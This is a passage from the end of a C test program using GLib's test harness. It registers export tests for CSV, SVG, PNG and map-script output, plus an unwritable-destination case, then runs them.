  g_test_add_func ("/export/csv/stages", test_csv_stages);
  g_test_add_func ("/export/csv/replaces", test_replaces);
  g_test_add_func ("/export/svg/example", test_svg_example);
  g_test_add_func ("/export/svg/awkward", test_svg_awkward);
  g_test_add_func ("/export/png/scale", test_png_scale);
  g_test_add_func ("/export/map/scripts", test_map_scripts);
  g_test_add_func ("/export/unwritable", test_unwritable);

  return g_test_run ();
}
